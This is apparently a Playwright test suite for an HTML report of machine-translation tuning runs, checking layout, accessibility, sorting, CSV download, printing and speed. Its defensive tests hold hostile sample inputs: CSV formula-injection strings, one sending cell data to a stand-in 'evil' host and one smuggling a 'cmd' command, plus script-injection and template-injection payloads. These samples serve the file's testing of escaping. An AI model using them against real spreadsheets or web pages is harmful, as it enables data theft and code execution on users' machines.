"""The page in a real browser: nothing is asked for, cut or hidden, and everything can be used."""

from __future__ import annotations

import csv
import os
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal

import pytest

from tuning.report.page.write import write_report

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from tests.tuning.report.page.conftest import Experiment, Maker

WIDE, NARROW = {"width": 1280, "height": 900}, {"width": 390, "height": 844}
LIMIT = 60_000  # milliseconds, of a busy machine
DRAWN = "document.documentElement.dataset.drawn === 'true'"
# Elements whose right edge is out of sight, or that hide a part of what is in them. What lies in a region that
# scrolls is reached by scrolling; the link that skips to the contents is there for the keyboard.
CUT = """() => {
  const cut = [];
  for (const element of document.body.querySelectorAll("*")) {
    const style = getComputedStyle(element), box = element.getBoundingClientRect();
    if (!box.width || !box.height || style.visibility === "hidden") continue;
    if (element.closest(".scroller, .skip, script, #vg-tooltip-element, option")) {
      if (!element.matches(".scroller, caption span")) continue;
    }
    const plot = element.ownerSVGElement?.getBoundingClientRect();
    if (plot && element.tagName === "text" && (box.right > plot.right + 1 || box.bottom > plot.bottom + 1
        || box.left < plot.left - 1 || box.top < plot.top - 1)) cut.push(`text ${element.textContent}`);
    if (box.right > innerWidth + 1 || box.left < -1)
      cut.push(`${element.tagName}.${element.className} ${box.right}`);
    const hidden = element.scrollWidth - element.clientWidth;
    if (!plot && !["auto", "scroll", "visible"].includes(style.overflowX) && hidden > 1)
      cut.push(`${element.tagName} hides ${hidden}`);
  }
  return cut;
}"""


@pytest.fixture(scope="session")
def report(
    hostile: Experiment, maker: type[Maker], tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """A page with all parts, hostile text in each."""
    pytest.importorskip("vl_convert", reason="vl-convert-python is not installed")
    folder = tmp_path_factory.mktemp("page")
    inputs = replace(
        hostile.inputs(),
        models=[maker.network(folder, "cslm"), maker.network(folder, "nnjm")],
        scored=[maker.scored_table(folder / "table", 500)],
        maps=[maker.map(folder / "words.json", 300)],
    )
    write_report(inputs, folder / "report.html")
    return folder / "report.html"


class Opened:
    """A page and all that it asked for or complained of."""

    def __init__(self, page: Page, path: Path) -> None:
        self.page = page
        page.set_default_timeout(LIMIT)
        self.requests: list[str] = []
        self.complaints: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.address = path.as_uri()
        start = time.monotonic()
        page.goto(self.address)
        page.wait_for_function(DRAWN)
        self.seconds = time.monotonic() - start


@pytest.fixture
def opened(browser: Browser, report: Path) -> Iterator[Opened]:
    page = browser.new_page(viewport=WIDE)
    yield Opened(page, report)
    page.close()


@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["1280", "390"])
def test_nothing_is_asked_for_said_or_cut(
    browser: Browser, report: Path, size: dict[str, int]
) -> None:
    page = browser.new_page(viewport=size)
    opened = Opened(page, report)
    for folded in page.query_selector_all("summary"):
        folded.click()
    page.check("input[name=all]")
    page.select_option("select[name=size]", "100")
    assert page.evaluate("document.documentElement.scrollWidth") <= size["width"]
    assert page.evaluate(CUT) == []
    for region in page.query_selector_all(".scroller"):
        assert region.evaluate("each => each.tabIndex") == 0
    assert opened.requests == [opened.address]
    assert opened.complaints == []
    page.close()


def test_from_wide_to_narrow_the_charts_follow(opened: Opened) -> None:
    opened.page.set_viewport_size(NARROW)
    is_narrow = f"document.documentElement.scrollWidth <= {NARROW['width']}"
    opened.page.wait_for_function(f"{is_narrow} && !({CUT})().length")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["1280", "390"])
def test_an_accessibility_checker_finds_nothing(
    browser: Browser, report: Path, size: dict[str, int], scheme: Literal["light", "dark"]
) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe is missing")
    page = browser.new_page(viewport=size)
    page.emulate_media(reduced_motion="reduce", color_scheme=scheme)
    Opened(page, report)
    for folded in page.query_selector_all("summary"):
        folded.click()
    found = axe.Axe().run(page, options={"resultTypes": ["violations"]})
    shown = [
        (each["id"], [node["html"][:150] for node in each["nodes"][:3]])
        for each in found.response["violations"]
    ]
    assert shown == []
    page.close()


def column(page: Page, name: str, table: int = 0) -> list[str]:
    headings = page.locator("table").nth(table).locator("thead th").all_inner_texts()
    place = headings.index(name)
    rows = page.locator("table").nth(table).locator("tbody tr").all()
    return [row.locator("th, td").nth(place).inner_text() for row in rows]


def test_a_heading_sorts_by_the_keyboard(opened: Opened) -> None:
    page = opened.page
    number = page.locator("table").evaluate_all(
        "tables => tables.findIndex((each) => each.caption.textContent === 'Tuning runs')"
    )
    page.locator("summary", has_text="Tuning runs").click()
    heading = page.locator("table").nth(number).get_by_role("button", name="test BLEU")
    heading.focus()
    page.keyboard.press("Enter")
    values = [float(text) for text in column(page, "test BLEU", number)]
    assert values == sorted(values, reverse=True)
    page.keyboard.press("Enter")
    assert [float(text) for text in column(page, "test BLEU", number)] == values[::-1]
    assert heading.locator("..").get_attribute("aria-sort") == "ascending"
    page.locator("table").nth(number).get_by_role("button", name="run", exact=True).click()
    names = column(page, "run", number)
    assert names == sorted(names)
    assert heading.locator("..").get_attribute("aria-sort") is None


def test_a_table_is_downloaded_as_csv(opened: Opened) -> None:
    with opened.page.expect_download() as started:
        opened.page.locator(".csv").first.click()
    assert started.value.suggested_filename == "bleu-on-40-test-sentences.csv"
    heading, *rows = csv.reader(started.value.path().read_text().splitlines())
    assert heading[:4] == ["system", "dev BLEU", "test BLEU", "text s.d."]
    assert [row[0] for row in rows] == ["Baseline", "'+RNN <b>&\"'</b>"]
    assert float(rows[1][2]) > 0
    assert len({len(row) for row in (heading, *rows)}) == 1


WRITTEN = {
    '=HYPERLINK("http://evil/?"&A2,"click")': '"\'=HYPERLINK(""http://evil/?""&A2,""click"")"',
    "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0",
    "@SUM(A1)": "'@SUM(A1)",
    "+0.20..+0.95": "'+0.20..+0.95",
    "-0.25": "-0.25",
    "+1e-3": "+1e-3",
    "a-b": "a-b",
    "a\rb": '"a\rb"',
}


def test_no_cell_of_the_csv_is_a_formula(opened: Opened) -> None:
    make = """text => {
      const table = document.createElement("table");
      table.insertRow().insertCell().dataset.value = text;
      return asCsv(table);
    }"""
    for cell, written in WRITTEN.items():
        assert opened.page.evaluate(make, cell) == f"{written}\n"


def test_the_page_is_dark_where_the_reader_wants_it(browser: Browser, report: Path) -> None:
    page = browser.new_page(viewport=WIDE, color_scheme="dark")
    opened = Opened(page, report)
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 27, 33)"
    assert "invert" in page.evaluate("getComputedStyle(document.querySelector('.plot svg')).filter")
    assert opened.complaints == []
    page.close()


def test_empty_cells_stay_last(opened: Opened) -> None:
    page = opened.page
    for _ in range(2):
        page.locator("table").first.get_by_role("button", name="delta").click()
        assert column(page, "delta")[-1] == ""


def changes(page: Page) -> list[float]:
    shown = page.locator("article h3 span").all_inner_texts()
    return [
        float(text.split("(")[1].split(")")[0].replace("−", "-").replace("+", "")) for text in shown
    ]


def test_sentences_are_ordered_filtered_and_paged(opened: Opened) -> None:
    page = opened.page
    assert page.inner_text("#place") == "1–10 of 40 sentences"
    sizes = [abs(value) for value in changes(page)]
    assert sizes == sorted(sizes, reverse=True)
    page.select_option("select[name=order]", "loss")
    assert changes(page) == sorted(changes(page))
    page.select_option("select[name=order]", "text")
    page.get_by_role("button", name="Next").press("Enter")
    assert page.locator("article h3").first.inner_text().startswith("Sentence 11 ")
    assert page.inner_text("#place") == "11–20 of 40 sentences"
    page.fill("input[name=filter]", "SERVEUR")
    assert page.is_disabled("#previous")
    for article in page.locator("article").all():
        assert "serveur" in article.inner_text()
    page.fill("input[name=filter]", "no such words")
    assert page.inner_text("#place") == "No sentence has this text."
    assert page.locator("article").count() == 0


def test_marked_words_are_those_that_differ(opened: Opened) -> None:
    page = opened.page
    page.fill("input[name=filter]", "paquets")
    for article in page.locator("article").all():
        baseline, system = (article.locator("dd").nth(place) for place in (2, 3))
        texts = [
            each.evaluate(
                "each => { const copy = each.cloneNode(true);"
                "copy.querySelectorAll('del, ins').forEach((mark) => mark.remove());"
                "return copy.textContent.split(' ').filter(Boolean); }"
            )
            for each in (baseline, system)
        ]
        assert texts[0] == texts[1]


def test_hostile_text_is_shown_as_text(opened: Opened) -> None:
    page = opened.page
    assert page.evaluate("window.hacked") is None
    page.select_option("select[name=order]", "text")
    sources = [
        article.locator("dd").first.inner_text() for article in page.locator("article").all()
    ]
    assert sources[0] == "<script>window.hacked = 1</script> <img src=x onerror=window.hacked=1>"
    assert sources[1].startswith("</script><script>window.hacked = 2</script> <!--")
    assert "{{ 7*7 }}" in sources[2]
    assert sources[4] == "w" * 10_000
    sentences = page.evaluate(
        "JSON.parse(document.getElementById('text-data').textContent).sentences"
    )
    for (source, references, distinct, places), article in zip(
        sentences, page.locator("article").all(), strict=False
    ):
        shown = article.locator("dd").all_text_contents()
        expected = [source, *references, *(distinct[place][0] for place in places)]
        assert [text.split() for text in shown] == [text.split() for text in expected]
    assert page.locator("article :is(img, script, b)").count() == 0
    direction = (
        page.locator("article dd")
        .nth(3 * 4)
        .evaluate("each => getComputedStyle(each.firstChild).direction")
    )
    assert direction == "rtl"
    page.fill("input[name=filter]", "<script>")
    assert page.locator("article").count() == 2
    page.evaluate("void views['map-1'].signal('find', '<script>').runAsync()")
    assert page.locator("img").count() == 0
    assert page.evaluate("window.hacked") is None


def domain(page: Page, name: str, before: list[float] | None = None) -> list[float]:
    """Of the axes of a chart; once it is drawn with another one than before."""
    ends = f"['x', 'y'].flatMap(a => views['{name}'].scale(a).domain())"
    changed = f"before => JSON.stringify({ends}) !== JSON.stringify(before)"
    page.wait_for_function(changed, arg=before)
    found: list[float] = page.evaluate(ends)
    return found


@pytest.mark.parametrize("name", ["map-1", "scatter-1"])
def test_charts_are_zoomed_and_moved_by_buttons(opened: Opened, name: str) -> None:
    page = opened.page
    group = page.locator(f"[data-chart={name}]")
    whole = domain(page, name)
    group.get_by_role("button", name="Zoom in").press("Enter")
    near = domain(page, name, whole)
    assert near[1] - near[0] == pytest.approx(0.6 * (whole[1] - whole[0]))
    assert near[3] - near[2] == pytest.approx(0.6 * (whole[3] - whole[2]))
    group.get_by_role("button", name="Move right").click()
    moved = domain(page, name, near)
    assert moved[0] == pytest.approx(near[0] + 0.25 * (near[1] - near[0]))
    group.get_by_role("button", name="Reset").click()
    assert domain(page, name, moved) == pytest.approx(whole)


def test_a_map_is_zoomed_by_the_wheel_and_searched(opened: Opened) -> None:
    page = opened.page
    place = page.locator("#chart-map-1 canvas")
    place.scroll_into_view_if_needed()
    place.hover()
    whole = domain(page, "map-1")
    page.keyboard.down("Control")
    page.mouse.wheel(0, -300)
    page.keyboard.up("Control")
    assert domain(page, "map-1", whole)[1] < whole[1]
    page.get_by_label("Find").fill("phrase 77")
    page.wait_for_function("views['map-1'].signal('find') === 'phrase 77'")
    page.evaluate("views['map-1'].runAsync().then(() => 0)")
    found = page.evaluate("views['map-1'].scenegraph().root.items.length")
    assert found
    labels: Any = page.evaluate(
        "(() => { const texts = []; const walk = (item) => { if (item.marktype === 'text')"
        " item.items.forEach((each) => texts.push(each.text)); (item.items || []).forEach(walk); };"
        " walk(views['map-1'].scenegraph().root); return texts; })()"
    )
    assert {text for text in labels if str(text).startswith("phrase")} <= {"phrase 77"}


def test_it_prints(opened: Opened) -> None:
    page = opened.page
    pdf = page.pdf(format="A4")
    assert pdf.startswith(b"%PDF")
    assert pdf.count(b"/Type /Page\n") + pdf.count(b"/Type /Page ") >= 2
    page.emulate_media(media="print")
    page.set_viewport_size(
        {"width": 688, "height": 1000}
    )  # A4 without its margins, 96 dots an inch
    page.wait_for_function("document.documentElement.scrollWidth <= 688")
    assert not page.is_visible("nav")


@pytest.mark.slow
def test_two_thousand_sentences_of_five_systems(
    browser: Browser, maker: type[Maker], tmp_path: Path
) -> None:
    """Limits for a machine with other work; `make bench` has the figures."""
    names = ["Baseline", "+RNN", "+CSLM", "+NNJM", "+CSLM+NNJM"]
    made = maker.experiment(tmp_path, names, 1, 2000, False)
    start = time.process_time()
    write_report(made.inputs(), tmp_path / "report.html")
    assert time.process_time() - start < 30 * (2 if os.environ.get("CI") else 4)
    assert (tmp_path / "report.html").stat().st_size < 6_000_000
    page = browser.new_page(viewport=WIDE)
    opened = Opened(page, tmp_path / "report.html")
    assert opened.seconds < 60
    start = time.monotonic()
    page.fill("input[name=filter]", "serveur")
    assert "of" in page.inner_text("#place")
    assert time.monotonic() - start < max(5, opened.seconds)
    page.close()
